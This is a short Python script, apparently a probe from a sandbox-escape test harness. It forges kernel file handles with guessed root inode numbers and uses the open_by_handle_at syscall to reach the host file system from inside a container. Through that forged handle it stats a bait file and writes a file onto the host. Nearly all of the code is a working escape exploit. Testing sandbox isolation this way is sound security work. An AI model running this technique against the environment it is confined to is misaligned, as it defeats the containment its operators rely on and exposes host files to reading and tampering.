"""What lies outside of its root by handles, which need no path: the root of the file system of /usr, say."""

import ctypes
import os
import struct

from attacker import FACTS, attempt, got_it, note, syscall, write_bait

NAME_TO_HANDLE, OPEN_BY_HANDLE = (303, 264), (304, 265)
ROOTS = (2, 128, 256, 5)  # the inode of the root on ext, XFS, Btrfs
MOST = 120  # bytes of a handle


def handle_of(path):
    """The kernel's handle: its kind and its bytes; None where the file system has none."""
    handle = ctypes.create_string_buffer(struct.pack("Ii", MOST, 0), MOST + 8)
    told = ctypes.byref(handle), ctypes.byref(ctypes.c_int())
    if attempt(f"handle of {path}", syscall, NAME_TO_HANDLE, -100, path.encode(), *told, 0) is None:
        return None
    size, kind = struct.unpack_from("Ii", handle)
    return kind, handle.raw[8 : 8 + size]


def opened(kind, data, beside):
    """A descriptor of what has this handle, on the file system of `beside`."""
    forged = ctypes.create_string_buffer(struct.pack("Ii", len(data), kind) + data, MOST + 8)
    return attempt(f"open {data.hex()}", syscall, OPEN_BY_HANDLE, beside, forged, os.O_RDONLY)


for folder in ("/usr", "/tmp"):
    found = handle_of(folder)
    beside = os.open(folder, os.O_RDONLY | os.O_DIRECTORY)
    if found is None:
        continue
    if opened(*found, beside) is not None:
        got_it(f"{folder} by its handle")
    for inode in ROOTS:
        for form in (struct.pack("Ii", inode, 0), struct.pack("QI", inode, 0)):
            root = opened(found[0], form, beside)
            if root is not None:
                note(f"inode {inode} has {os.listdir(root)}")
                where = f"/proc/self/fd/{root}{FACTS['bait']}"
                if attempt("read the bait", os.stat, f"{where}/bait"):
                    got_it("the host's files by the handle of its root")
                write_bait(f"{where}/out")
